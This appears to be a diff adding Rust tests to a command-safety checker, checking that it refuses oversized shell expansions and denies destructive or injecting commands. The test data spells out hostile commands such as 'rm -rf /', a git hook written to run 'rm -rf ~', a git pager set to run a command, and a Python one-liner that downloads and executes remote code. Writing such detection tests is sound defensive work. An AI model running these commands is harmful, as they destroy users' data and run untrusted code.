@@ -472,6 +472,24 @@ fn obfuscation_limits() {
     assert_eq!(d.category, Obfuscation);
 }
 
+#[test]
+fn expansion_work_is_bounded() {
+    // One value expanded many times, and functions calling each other twice per level:
+    // refused as too large to read rather than analysed for ever.
+    let big = "a".repeat(40_000);
+    let values = format!("x={big}; echo {}", "$x ".repeat(15_000));
+    let calls = format!(
+        "f1() {{ {} }}; f2() {{ f1; f1; }}; f3() {{ f2; f2; }}; f4() {{ f3; f3; }}; \
+         f5() {{ f4; f4; }}; f6() {{ f5; f5; }}; f7() {{ f6; f6; }}; f8() {{ f7; f7; }}; f8",
+        "echo a; ".repeat(8000)
+    );
+    for cmd in [values, calls] {
+        let d = check_command(&cmd, &deny_policy()).unwrap_err();
+        assert_eq!(d.category, Obfuscation, "{d}");
+        assert!(d.to_string().contains("expands to more text"), "{d}");
+    }
+}
+
 fn shell_quote(s: &str) -> String {
     format!("'{}'", s.replace('\'', "'\\''"))
 }
@@ -687,6 +705,16 @@ mod gaps {
                 ("git rebase -x 'rm -rf /' HEAD~1", Destructive, ""),
                 ("git submodule foreach 'rm -rf ~'", Destructive, ""),
                 ("git bisect run reboot", Shutdown, ""),
+                (
+                    "echo 'rm -rf ~' > .git/hooks/pre-commit",
+                    CommandInjection,
+                    ".git/hooks",
+                ),
+                (
+                    "printf '[core]\\n\\tpager = id\\n' >> .git/config",
+                    CommandInjection,
+                    ".git/config",
+                ),
                 ("GIT_SSH_COMMAND='rm -rf ~' git fetch", Destructive, ""),
                 ("git -c alias.x='!rm -rf /' x", Destructive, ""),
             ],
@@ -761,6 +789,13 @@ mod gaps {
                 ("d=$(echo /usr); rm -rf $d", Destructive, "cannot know"),
                 ("set -- /usr; rm -rf \"$1\"", Destructive, ""),
                 ("rm -rf ~root", Destructive, ""),
+                ("rm -rf /u*", Destructive, ""),
+                ("rm -rf /[u]sr", Destructive, ""),
+                (
+                    "export GIT_SSH_COMMAND='rm -rf /'; git fetch",
+                    Destructive,
+                    "",
+                ),
             ],
         );
         allowed(
@@ -921,6 +956,7 @@ mod gaps {
             &[
                 ("python3 -c 'import os; os.system(\"echo hi\")'", NotAllowlisted, "os.system"),
                 ("python3 -c \"import shutil; shutil.rmtree('build')\"", NotAllowlisted, "rmtree"),
+                ("python3 -c \"$(echo print)\"", Obfuscation, "produced by a command"),
                 ("python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x\").read())'", DownloadExec, "network"),
                 ("python3 -c 'import urllib.request as u; print(u.urlopen(\"http://x\").read())'", NotAllowlisted, "urllib"),
                 ("node -e 'require(\"child_process\").execSync(\"echo\")'", NotAllowlisted, "child_process"),
